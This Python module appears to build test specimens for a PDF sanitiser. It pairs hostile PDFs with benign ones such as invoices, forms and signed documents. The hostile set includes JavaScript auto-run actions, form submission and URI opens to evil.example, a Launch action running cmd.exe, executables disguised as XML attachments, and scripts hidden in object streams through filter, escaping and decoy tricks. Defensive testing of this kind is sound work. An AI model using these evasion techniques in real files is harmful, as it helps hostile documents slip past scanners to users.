"""PDF that acts, hidden from quick looks in the ways that readers undo, and PDF as programs write it."""

from __future__ import annotations

import zlib

import pikepdf
from pdf_documents import annotation, new
from pikepdf import Array, Dictionary, Name
from specimens import Specimen

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
INVOICE = b'<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"><a>1</a></rsm:CrossIndustryInvoice>'


XMP = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>'


def packed(keys, data, more=b"", trailer=b""):
    """A document whose catalog's action stands in an object stream with these keys and data."""
    parts = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n",
        b"3 0 obj<</Type/Page/MediaBox[0 0 9 9]/Resources<<>>/Parent 2 0 R>>endobj\n",
        b"4 0 obj<<" + keys + b"/Length %d>>stream\r\n" % len(data) + data + b"\r\nendstream endobj\n",
        b"",
        b"6 0 obj/FlateDecode endobj\n" + more,
    ]
    body, places = b"%PDF-1.5\n", []
    for part in parts:
        places.append(len(body))
        body += part
    rows = [(0, 0, 255), *((1, place, 0) for place in places[:4]), (2, 4, 0), (1, places[5], 0), (1, len(body), 0)]
    table = b"".join(bytes((kind,)) + place.to_bytes(4, "big") + bytes((last,)) for kind, place, last in rows)
    reference = b"7 0 obj<</Type/XRef/Size 8/W[1 4 1]/Root 1 0 R%s/Length %d>>stream\r\n" % (trailer, len(table))
    return body + reference + table + b"\r\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


STREAM = b"5 0 " + SCRIPT
FLATE = zlib.compress(STREAM)
KEYS = b"/Type/ObjStm/N 1/First 4"


def attached(name, data, kind=True, tree=True):
    """A change: an attached file; kind: its stream says what it is; tree: it is listed by name."""

    def change(pdf):
        file = pdf.make_stream(data, **({"Type": Name.EmbeddedFile} if kind else {}))
        specification = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=file)))
        if tree:
            pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=[name, specification]))
            pdf.Root.AF = Array([specification])
        else:
            annotation(pdf, Subtype=Name.FileAttachment, FS=specification)

    return change


def invoice(name="factur-x.xml", relation="Alternative", data=INVOICE):
    """A change: an invoice as ZUGFeRD 2 and Factur-X 1.0 embed it, with what PDF/A-3 wants of it."""

    def change(pdf):
        file = pdf.make_stream(
            data,
            Type=Name.EmbeddedFile,
            Subtype=Name("/text/xml"),
            Params=Dictionary(ModDate="D:20261125000000Z", Size=len(data)),
        )
        specification = pdf.make_indirect(
            Dictionary(
                Type=Name.Filespec,
                F=name,
                UF=name,
                AFRelationship=Name(f"/{relation}"),
                Desc="Factur-X/ZUGFeRD",
                EF=Dictionary(F=file, UF=file),
            )
        )
        pdf.Root.AF = Array([specification])
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=[name, specification]))
        pdf.Root.PageMode = Name.UseAttachments
        pdf.Root.MarkInfo = Dictionary(Marked=True)
        pdf.Root.Metadata = pdf.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)
        profile = pdf.make_stream(bytes(128), N=3)
        pdf.Root.OutputIntents = Array(
            [
                Dictionary(
                    Type=Name.OutputIntent,
                    S=Name.GTS_PDFA1,
                    OutputConditionIdentifier="sRGB",
                    DestOutputProfile=profile,
                )
            ]
        )

    return change


def form(pdf, **button):
    """A form with a text, a box to check and a button."""
    shown = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    text = annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T="name", DA="/Helv 0 Tf 0 g", MaxLen=20, Ff=0)
    box = annotation(
        pdf,
        Subtype=Name.Widget,
        FT=Name.Btn,
        T="agreed",
        AS=Name.Off,
        V=Name.Off,
        AP=Dictionary(N=Dictionary(Off=shown, Yes=shown)),
    )
    push = annotation(pdf, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T="push", MK=Dictionary(CA="Send"), **button)
    pdf.Root.AcroForm = Dictionary(Fields=[text, box, push], DA="/Helv 0 Tf 0 g", NeedAppearances=True)


def signed(pdf):
    value = pdf.make_indirect(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/adbe.pkcs7.detached"),
            ByteRange=[0, 1, 2, 3],
            Contents=bytes(64),
            Reason="approved",
        )
    )
    field = annotation(pdf, Subtype=Name.Widget, FT=Name.Sig, T="signature", F=132, V=value)
    pdf.Root.AcroForm = Dictionary(Fields=[field], SigFlags=3)
    pdf.Root.Perms = Dictionary(DocMDP=value)


def portfolio(name, data):
    def change(pdf):
        attached(name, data)(pdf)
        pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D, D=name)

    return change


def associated(pdf):
    attached("a.exe", b"MZ")(pdf)
    pdf.pages[0].obj.AF = pdf.Root.AF
    del pdf.Root.AF, pdf.Root.Names


def tagged(pdf):
    """Structure, layers, labels, transitions and borders, which use the keys of actions for something else."""
    element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Form, K=0, A=Dictionary(O=Name.Layout)))
    tree = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=element, RoleMap=Dictionary(Movie=Name.Figure)))
    element.P = tree
    pdf.Root.StructTreeRoot = tree
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="JavaScript"))
    pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(ON=[layer], Order=[layer]))
    pdf.Root.PageLabels = Dictionary(Nums=[0, Dictionary(S=Name.D)])
    pdf.pages[0].obj.Trans = Dictionary(S=Name.Wipe, D=1)
    annotation(pdf, Subtype=Name.Link, BS=Dictionary(S=Name.S, W=1), A=Dictionary(S=Name.Named, N=Name.NextPage))


def everything(*changes):
    def change(pdf):
        for one in changes:
            one(pdf)

    return change


def root(**keys):
    def change(pdf):
        for key, value in keys.items():
            pdf.Root[f"/{key}"] = value

    return change


def page_action(action):
    def change(pdf):
        pdf.pages[1].obj.AA = Dictionary(O=pdf.make_indirect(action))

    return change


def revised(data):
    """Another revision of a document, in which the catalog does nothing."""
    start = data.rindex(b"startxref") + 10
    table = b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \ntrailer\n<</Size 8/Root 1 0 R/Prev %s>>\n" % (
        len(data),
        data[start:].split()[0],
    )
    body = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    return data + body + table + b"startxref\n%d\n%%%%EOF\n" % (len(data) + len(body))


SCRIPT_ACTION = {"S": Name.JavaScript, "JS": "app.alert(1)"}


def acts():
    changes = {
        "script behind an action that resets a form": root(
            OpenAction=Dictionary(S=Name.ResetForm, Next=Dictionary(**SCRIPT_ACTION))
        ),
        "script behind an action of a page": page_action(
            Dictionary(S=Name.GoTo, D=[0, Name.Fit], Next=Array([Dictionary(**SCRIPT_ACTION)]))
        ),
        "address that opens by itself": root(OpenAction=Dictionary(S=Name.URI, URI="http://evil.example/")),
        "address that opens with a page": page_action(Dictionary(S=Name.URI, URI="http://evil.example/")),
        "document on a server": lambda pdf: annotation(
            pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=r"\\evil.example\x", D=[0, Name.Fit])
        ),
        "document in the web": lambda pdf: annotation(
            pdf,
            Subtype=Name.Link,
            A=Dictionary(S=Name.GoToR, F=Dictionary(FS=Name.URL, F="http://evil.example/x.pdf"), D=[0, Name.Fit]),
        ),
        "attachment of an annotation without type": attached("invoice.exe", b"MZ", kind=False, tree=False),
        "attached script named as data": attached("invoice.js", INVOICE),
        "attached program named as data": attached("invoice.xml", b"MZ\x90\0" + bytes(200)),
        "attached page named as data": attached("a.xml", b"<html><script>alert(1)</script></html>"),
    }
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://evil.example/"), Flags=4)
    calculated = {"AA": Dictionary(C=Dictionary(**SCRIPT_ACTION))}
    changes |= {
        "form that is sent": lambda pdf: form(pdf, A=submit),
        "form that is calculated by a script": lambda pdf: form(pdf, **calculated),
        "form of XFA": root(AcroForm=Dictionary(Fields=[], XFA=Array(["template", "<template/>"]))),
        "form that names a file to import": lambda pdf: form(pdf, A=Dictionary(S=Name.ImportData, F="a.fdf")),
        "signed document with a script": everything(signed, root(OpenAction=Dictionary(**SCRIPT_ACTION))),
        "portfolio with a program": portfolio("invoice.exe", b"MZ\x90\0" + bytes(200)),
        "portfolio with a document": portfolio("invoice.pdf", new()),
        "invoice beside a program": everything(invoice(), attached("a.exe", b"MZ", tree=False)),
        "invoice with a script": invoice(
            data=INVOICE.replace(b"<a>", b'<x:script xmlns:x="http://www.w3.org/1999/xhtml"/><a>')
        ),
        "associated program of a page": associated,
        "program of an annotation by its own key": lambda pdf: annotation(
            pdf, Subtype=Name.Stamp, EF=Dictionary(F=pdf.make_stream(b"MZ"))
        ),
        "media that plays": lambda pdf: annotation(
            pdf, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0, JS="app.alert(1)")
        ),
        "program that is started": lambda pdf: annotation(
            pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))
        ),
    }
    made = {name: new(change, object_stream_mode=pikepdf.ObjectStreamMode.generate) for name, change in changes.items()}
    made |= {
        "script in an object stream": packed(KEYS + b"/Filter/FlateDecode", FLATE),
        "script in an object stream that stands there": packed(KEYS, STREAM),
        "script in an object stream with a filter elsewhere": packed(KEYS + b"/Filter 6 0 R", FLATE),
        "script in an object stream with two filters": packed(
            KEYS + b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(FLATE)
        ),
        "script in an object stream with a filter spelt otherwise": packed(KEYS + b"/Filter/Flate#44ecode", FLATE),
        "script in an object stream with a decoy": packed(KEYS + b"/X(>>stream\r\n)/Filter/FlateDecode", FLATE),
        "script in an object stream with a decoy in a comment": packed(
            b"/Filter/FlateDecode % 5 0 obj<<\n/N 1/Type/ObjStm/First 4", FLATE
        ),
        "script in an object stream with a key like the end of an object": packed(
            b"/Type/Obj#53tm/N 1/F#69rst 4/Filter/FlateDecode/endobj 0", FLATE
        ),
        "script in an object stream without type": packed(b"/N 1/First 4/Filter/FlateDecode", FLATE),
        "script in an object stream with its type spelt otherwise": packed(
            b"/Type/Obj#53tm/N 1/F#69rst 4/Filter/FlateDecode", FLATE
        ),
        "script in an object stream in hexadecimal": packed(KEYS + b"/Filter/ASCIIHexDecode", STREAM.hex().encode()),
        "script in an object stream with two filters elsewhere": packed(
            KEYS + b"/Filter[6 0 R/ASCIIHexDecode]", zlib.compress(STREAM.hex().encode() + b">")
        ),
        "script in an object stream with two decoys": packed(
            KEYS + b"/X(\n9 0 obj<</First 4>>stream\n)/Y[(>>stream)]/Filter 6 0 R", FLATE
        ),
        "script spelt otherwise": packed(KEYS, b"5 0 " + SCRIPT.replace(b"JavaScript", b"#4aava#53cript")),
        "script in an older revision": revised(packed(KEYS + b"/Filter/FlateDecode", FLATE)),
        "script in the trailer": packed(KEYS, b"5 0 null", trailer=b"/X" + SCRIPT),
    }
    return {name: Specimen(data, "a.pdf", "application/pdf") for name, data in made.items()}


def ordinary():
    generate = pikepdf.ObjectStreamMode.generate
    made = {
        "pages": new(),
        "pages in object streams": new(object_stream_mode=generate),
        "pages in object streams, linear": new(object_stream_mode=generate, linearize=True),
        "opens at a page": new(
            lambda pdf: root(OpenAction=pdf.make_indirect(Dictionary(S=Name.GoTo, D=[0, Name.Fit])))(pdf)
        ),
        "object stream that stands there": packed(KEYS, b"5 0 null"),
        "invoice as data": new(attached("factur-x.xml", INVOICE)),
        "invoice as data in object streams": new(attached("factur-x.xml", INVOICE), object_stream_mode=generate),
        "invoice of Factur-X": new(invoice()),
        "invoice of ZUGFeRD 2 in object streams": new(invoice(relation="Source"), object_stream_mode=generate),
        "invoice of XRechnung": new(invoice("xrechnung.xml", "Data")),
        "invoice that is signed": new(everything(invoice(), signed)),
        "form": new(form),
        "form in object streams": new(form, object_stream_mode=generate),
        "form with a button that clears it": new(lambda pdf: form(pdf, A=Dictionary(S=Name.ResetForm))),
        "signed document": new(signed),
        "tags, layers, labels and borders": new(tagged, object_stream_mode=generate),
        "address with the name of a script": new(
            lambda pdf: annotation(
                pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=b"https://en.wikipedia.org/wiki/JavaScript")
            )
        ),
        "damaged table": new().replace(b"startxref", b"startxxxx"),
        "document beside": new(
            lambda pdf: annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F="volume2.pdf", D=[0, Name.Fit]))
        ),
    }
    return {name: Specimen(data, "a.pdf", "application/pdf") for name, data in made.items()}


CHANGED = {
    "form with a button that clears it": "actions that change the document are not among those that stay",
    "damaged table": "readers find other objects in it, so it is written anew",
    "document beside": "links to files are not among those that stay",
}
